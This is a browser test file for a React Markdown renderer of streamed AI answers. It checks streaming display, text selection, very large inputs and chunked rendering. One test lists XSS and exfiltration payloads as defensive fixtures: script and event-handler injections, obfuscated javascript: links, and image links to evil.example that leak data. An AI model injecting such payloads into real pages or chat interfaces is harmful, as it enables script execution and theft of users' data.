import { afterEach, describe, expect, it, vi } from 'vitest';
import { render } from 'vitest-browser-react';
import { failOnConsoleErrors } from '../../test/console-guard.ts';
import { longAnswer } from '../../test/texts.ts';
import { MessageBoundary } from '../messages/message-boundary.tsx';
import { Markdown } from './markdown.tsx';
import '@ziggie/llm-react/styles.css';

failOnConsoleErrors();
afterEach(() => getSelection()?.removeAllRanges());

async function stream(text: string, step: number, look: (root: HTMLElement) => void): Promise<HTMLElement> {
  const view = await render(<Markdown text="" streaming />);
  for (let end = step; end < text.length; end += step) {
    await view.rerender(<Markdown text={text.slice(0, end)} streaming />);
    look(view.container);
  }
  await view.rerender(<Markdown text={text} streaming />);
  await view.rerender(<Markdown text={text} />);
  return view.container;
}

/** What the reader sees outside of code. */
function proseOf(root: HTMLElement): string {
  const copy = root.cloneNode(true) as HTMLElement;
  for (const code of copy.querySelectorAll('.zg-code, .zg-code-inline, .zg-table-actions')) code.remove();
  return copy.textContent;
}

describe('Markdown', () => {
  it('never shows a half typed mark, at any length', async () => {
    await stream(longAnswer, 1, (root) => {
      const prose = proseOf(root);
      expect(prose).not.toMatch(/\*\*|```|~~|\]\(|!\[/);
      for (const paragraph of root.querySelectorAll('p')) expect(paragraph.textContent).not.toContain('|');
      expect(prose).not.toMatch(/^\s*[-#>]\s*$/m);
    });
  });

  it('shows no half typed mark of a text that was cut off at any length, and no fewer words than while it grew', async () => {
    const view = await render(<Markdown text="" streaming />);
    for (let end = 1; end < longAnswer.length; end += 1) {
      await view.rerender(<Markdown text={longAnswer.slice(0, end)} streaming />);
      const words = proseOf(view.container);
      await view.rerender(<Markdown text={longAnswer.slice(0, end)} cutOff />);
      const prose = proseOf(view.container);
      expect(prose).not.toMatch(/\*\*|```|~~|\]\(|!\[/);
      for (const paragraph of view.container.querySelectorAll('p'))
        expect(paragraph.textContent).not.toContain('|');
      expect(prose.slice(0, words.trimEnd().length)).toBe(words.trimEnd());
      expect(view.container.querySelector('[data-growing]')).toBeNull();
    }
  });

  it('leaves what is on the page alone when it is cut off, and a selection in its last words', async () => {
    const text = 'First.\n\n- one\n- the way that **really wor';
    const view = await render(<Markdown text={text} streaming />);
    getSelection()?.selectAllChildren(view.container.querySelector('strong') as Node);
    const changed: MutationRecord[] = [];
    const watch = new MutationObserver((records) => changed.push(...records));
    watch.observe(view.container, { childList: true, characterData: true, attributes: true, subtree: true });
    await view.rerender(<Markdown text={text} cutOff />);
    changed.push(...watch.takeRecords());
    watch.disconnect();
    expect(changed.map(({ attributeName }) => attributeName)).toEqual(['data-growing']);
    expect(getSelection()?.toString()).toBe('really wor');
  });

  it('ends with what the whole text gives', async () => {
    const streamed = await stream(longAnswer, 7, () => {});
    const whole = await render(<Markdown text={longAnswer} />);
    expect(streamed.innerHTML.replace(/ id="[^"]*"/g, '')).toBe(
      whole.container.innerHTML.replace(/ id="[^"]*"/g, ''),
    );
  });

  it('keeps the text nodes of blocks that are over, and a selection in them, to the end', async () => {
    let first: ChildNode | null = null;
    const root = await stream(
      `First **paragraph** here.\n\n\`\`\`js\nlet x = 1;\n\`\`\`\n\n${longAnswer}`,
      5,
      (now) => {
        const paragraph = now.querySelector('p');
        if (first !== null || now.querySelector('figure') === null || paragraph === null) return;
        first = paragraph.firstChild;
        getSelection()?.selectAllChildren(paragraph);
      },
    );
    expect(first).not.toBeNull();
    expect(root.querySelector('p')?.firstChild).toBe(first);
    expect(getSelection()?.toString()).toBe('First paragraph here.');
  });

  it.each([
    '<script>globalThis.hacked = 1</script>',
    '<img src=x onerror="globalThis.hacked = 1">',
    '<svg/onload=globalThis.hacked=1>',
    '<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>',
    '[a](javascript:globalThis.hacked=1)',
    '[a](JaVaScRiPt:globalThis.hacked=1)',
    '[a](java&#10;script:globalThis.hacked=1)',
    '[a](&#x6a;avascript:globalThis.hacked=1)',
    '[a](data:text/html;base64,PHNjcmlwdD4=)',
    '[a]: javascript:globalThis.hacked=1\n\n[a]',
    '<javascript:globalThis.hacked=1>',
    '![a](https://evil.example/steal?q=secret)',
    '![a](//evil.example/x.png)',
    '![a](data:image/svg+xml,<svg onload=globalThis.hacked=1>)',
    '[![a](https://evil.example/x.png)](https://evil.example)',
    '```html" onmouseover="globalThis.hacked=1\n<b>\n```',
    '| a |\n|--|\n| <img src=x onerror=globalThis.hacked=1> |',
    '[a](https://ok.example "x\\" onclick=\\"globalThis.hacked=1")',
    '<a href="javascript:globalThis.hacked=1" style="position:fixed;inset:0">x</a>',
    '<style>body{display:none}</style>',
    '<base href="https://evil.example">',
  ])('keeps %s inert', async (text) => {
    const asked = vi.fn();
    const watch = new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) if (entry.name.includes('evil')) asked(entry.name);
    });
    watch.observe({ type: 'resource' });
    const root = await stream(text, 3, () => {});
    for (const link of root.querySelectorAll('a')) {
      expect(link.protocol).toBe('https:');
      expect(link.rel).toBe('noopener noreferrer nofollow');
      link.addEventListener('click', (event) => event.preventDefault());
      link.click();
    }
    expect(
      root.querySelectorAll('script, img, svg:not(.zg-icon), iframe, style, base, object, form, [style]'),
    ).toHaveLength(0);
    for (const element of root.querySelectorAll('*')) {
      expect([...element.attributes].filter(({ name }) => name.startsWith('on'))).toEqual([]);
    }
    await new Promise((resolve) => setTimeout(resolve, 5));
    watch.disconnect();
    expect(asked).not.toHaveBeenCalled();
    expect((globalThis as { hacked?: unknown }).hacked).toBeUndefined();
  });

  it.each([
    ['quotes', '> '.repeat(8_192)],
    ['nested lists', '- '.repeat(8_192)],
    ['brackets', '['.repeat(16_384)],
    ['images', '!['.repeat(8_192)],
    ['emphasis', '*a **b '.repeat(2_400)],
    ['stars and quotes', '*"'.repeat(8_192)],
    ['ticks of many lengths', Array.from({ length: 180 }, (_, n) => '`'.repeat(n + 1)).join(' ')],
    ['short headings', '#\n'.repeat(8_192)],
    ['a wide table', `${'|a'.repeat(2_000)}|\n${'|-'.repeat(2_000)}|\n${'|\n'.repeat(2_000)}`],
  ])('shows 16 KiB of %s without harm', async (_, text) => {
    const view = await render(
      <MessageBoundary text={text}>
        <Markdown text={text} streaming />
      </MessageBoundary>,
    );
    await view.rerender(
      <MessageBoundary text={text}>
        <Markdown text={text} />
      </MessageBoundary>,
    );
    await expect.poll(() => view.container.textContent.length).toBeGreaterThan(0);
    // What these guard against takes minutes or never ends: the limit is that of the test.
  });

  it('shows what is beyond 256 KiB as plain text', async () => {
    const text = `${'word '.repeat(200)}\n\n`.repeat(300);
    const { container } = await render(<Markdown text={`${text}**tail**`} />);
    await expect.poll(() => container.textContent).toContain('**tail**');
    const plain = [...container.querySelectorAll('.zg-plain')].map(({ textContent }) => textContent).join('');
    expect(text.endsWith(plain.replace('**tail**', ''))).toBe(true);
    expect(plain.length).toBeGreaterThan(8 * 1_024);
  });

  it('puts a long plain text onto the page in pieces, a frame each', async () => {
    let frame = 0;
    let request = requestAnimationFrame(function count() {
      frame += 1;
      request = requestAnimationFrame(count);
    });
    const commits: { frame: number; characters: number }[] = [];
    const watch = new MutationObserver((records) => {
      const added = records.flatMap(({ addedNodes }) => [...addedNodes]);
      const characters = added.reduce((sum, { textContent }) => sum + (textContent?.length ?? 0), 0);
      if (characters > 0) commits.push({ frame, characters });
    });
    watch.observe(document.body, { childList: true, subtree: true });
    const text = `\`\`\`\na${'😀'.repeat(64 * 1_024)}\n\`\`\``;
    const { container } = await render(<Markdown text={text} />);
    await expect.poll(() => container.textContent.length).toBe(text.length);
    watch.disconnect();
    cancelAnimationFrame(request);
    expect(container.textContent).toBe(text);
    expect(Math.max(...commits.map(({ characters }) => characters))).toBeLessThanOrEqual(24 * 1_024);
    expect(new Set(commits.map(({ frame: at }) => at)).size).toBe(commits.length);
    // No cut between the halves of one character.
    for (const piece of container.querySelectorAll('.zg-plain')) {
      expect(piece.textContent).not.toMatch(/[\uD800-\uDBFF]$/);
    }
  });
});
